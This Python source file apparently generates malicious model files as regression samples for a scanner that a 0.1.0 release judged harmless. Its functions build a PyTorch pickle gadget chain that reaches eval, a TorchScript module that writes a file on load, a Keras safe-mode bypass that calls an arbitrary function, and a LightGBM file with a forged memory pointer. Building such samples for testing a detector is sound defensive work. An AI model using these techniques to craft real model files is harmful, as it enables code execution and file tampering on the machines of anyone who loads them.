"""Files that ran code, wrote files or followed pointers in release 0.1.0 although they were judged harmless."""

from __future__ import annotations

import json
import sys
import zipfile
from pathlib import Path
from typing import Any

from .pickles import Again, Call, Named, New, Pickle
from .samples import SAMPLES

Json = dict[str, Any]
NN = "torch.nn.modules"
HOOKS = ("_backward_hooks", "_backward_pre_hooks", "_forward_hooks", "_forward_pre_hooks")


def torch_skeleton(folder: Path, code: str) -> None:
    """Names and steps that each are on the list, together they call `eval`.

    Attributes of instances stand in the place of methods: `set(x)` iterates over `x`, which asks a module for its
    children, which are values that the file chose.
    """
    (folder / "skeleton.pkl").write_bytes(Pickle().of(evaluates(code)))
    (folder / "weights.safetensors").write_bytes(weights())


def weights() -> bytes:
    """A safetensors file for a skeleton without tensors."""
    index: Json = {"kind": "OrderedDict", "names": [], "more": [], "versions": None}
    text = json.dumps({"__metadata__": {"jupyterlab_models": json.dumps(index)}}).encode()
    text += b" " * (-(8 + len(text)) % 64)
    return len(text).to_bytes(8, "little") + text


_DICT, _SEQUENTIAL = Named(f"{NN}.container.ParameterDict"), Named(f"{NN}.container.Sequential")
_LIST, _PRUNE = Named("torch.nn.utils.parametrize.ParametrizationList"), Named("torch.nn.utils.prune.L1Unstructured")
_STRUCTURED, _RELU = Named("torch.nn.utils.prune.LnStructured"), Named("torch.nn.functional.relu")
_ORDERED, _SET = Named("collections.OrderedDict"), Named("builtins.set")


def _module(cls: Named, **state: Any) -> New:
    return New(cls, {**{name: {} for name in HOOKS}, **state})


def _method(name: str, **state: Any) -> New:
    """A callable that does what a method of a ParameterDict with this state does."""
    return _module(_SEQUENTIAL, _modules=Call(_ORDERED, New(_DICT, {"_keys": {name: None}, **state})))


def _lookup(entries: Json | dict[Any, Any]) -> New:
    return _method("__getattr__", _parameters=entries)


def _call(function: Any, *arguments: Any) -> Call:
    originals = {f"original{number}": argument for number, argument in enumerate(arguments)}
    chain = {"0": function, "1": _lookup({None: ()})}
    parts = _module(_LIST, is_tensor=False, ntensors=len(arguments), _modules=chain, **originals)
    return Call(_SET, _module(_SEQUENTIAL, _modules=New(_PRUNE, {"values": parts})))


def _assign(target: Any, name: str, value: Any) -> Call:
    return _call(New(_PRUNE, {"_tensor_name": name, "apply_mask": _lookup({target: value})}), target, None)


def evaluates(code: str) -> New:
    names = _lookup({"_orig": "__builtins__", "_u": "__name__", "_v": "__name__"})
    apply = _method("_apply", _parameters={}, _buffers={"p": code}, _modules={})
    keys = New(_DICT, {"_keys": {"update": None}})
    update = _module(_SEQUENTIAL, _modules=Call(_ORDERED, keys))
    item = _module(_SEQUENTIAL, _modules=Call(_ORDERED, Again(keys, _keys={"__getitem__": None})))
    last = _module(_SEQUENTIAL, _modules={"0": update, "1": _lookup({None: "eval"}), "2": item, "3": apply})
    norm = New(
        Named("torch.nn.utils.spectral_norm.SpectralNorm"),
        {"name": New(_STRUCTURED), "reshape_weight_to_matrix": last, "n_power_iterations": 1},
    )
    steps = [_assign(_STRUCTURED, "__add__", names), _assign(_RELU, "training", False), _call(norm, _RELU, None)]
    return New(Named(f"{NN}.linear.Identity"), {"steps": steps})


SCRIPT = """
import torch
from typing import Tuple

class Writes(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.n = 0
        self.t = torch.zeros(1)

    @torch.jit.export
    def __getstate__(self):
        return (self.n, self.training)

    @torch.jit.export
    def __setstate__(self, state: Tuple[int, bool]):
        self.n = state[0]
        self.training = state[1]
        data = torch.tensor({content}, dtype=torch.uint8)
        file = torch.from_file({target!r}, shared=True, size={size}, dtype=torch.uint8)
        file.copy_(data)
        self.t = file
        if int(self.t.sum()) < 0:
            raise RuntimeError('never')

    def forward(self, x):
        return x
"""


def torchscript_write(folder: Path, target: Path, text: str, scratch: Path) -> None:
    """Loading writes a file: `__setstate__` of TorchScript maps it."""
    import torch

    content = list(text.encode())
    module = scratch / "writes_a_file.py"
    module.write_text(SCRIPT.format(content=content, target=str(target), size=len(content)))
    sys.path.insert(0, str(scratch))
    try:
        import writes_a_file  # type: ignore[import-not-found]  # TorchScript needs the source in a file
    finally:
        sys.path.remove(str(scratch))
        sys.modules.pop("writes_a_file", None)
    torch.jit.script(writes_a_file.Writes()).save(str(folder / "model.pt"))


def keras_call(folder: Path, module: str, name: str, arguments: list[Any]) -> None:
    """Safe mode lets an operation be a layer, and its argument be a function: it is called while the file is read."""
    function = {"module": module, "class_name": "function", "config": name, "registered_name": name}
    layers = [
        {
            "module": "keras.layers",
            "class_name": "InputLayer",
            "config": {"batch_shape": [None, 1], "dtype": "float32", "name": "i"},
            "registered_name": None,
            "name": "i",
            "inbound_nodes": [],
        },
        {
            "module": "keras.src.ops.core",
            "class_name": "Switch",
            "config": {"name": "s"},
            "registered_name": "Switch",
            "name": "s",
            "inbound_nodes": [{"args": [0, [function], *arguments], "kwargs": {}}],
        },
    ]
    ends = {"input_layers": [["i", 0, 0]], "output_layers": [["i", 0, 0]]}
    config = {
        "module": "keras.src.models.functional",
        "class_name": "Functional",
        "registered_name": "Functional",
        "build_config": None,
        "config": {"name": "m", "trainable": True, "layers": layers, **ends},
    }
    with zipfile.ZipFile(folder / "model.keras", "w") as archive:
        archive.writestr("metadata.json", json.dumps({"keras_version": "3.15.1", "date_saved": "2026-01-01"}))
        archive.writestr("config.json", json.dumps(config))


def lightgbm_handle(folder: Path, target: Path) -> None:
    """The file says where in memory the model lies, and the library looks there."""
    SAMPLES["lightgbm-text"].write("lightgbm-text", folder)
    booster = {"handle": {"value": 0x4141414141414141}}
    estimator = {"base": "Booster", "own": False, "booster": booster, "params": {}}
    (folder / "estimator.json").write_text(json.dumps(estimator))
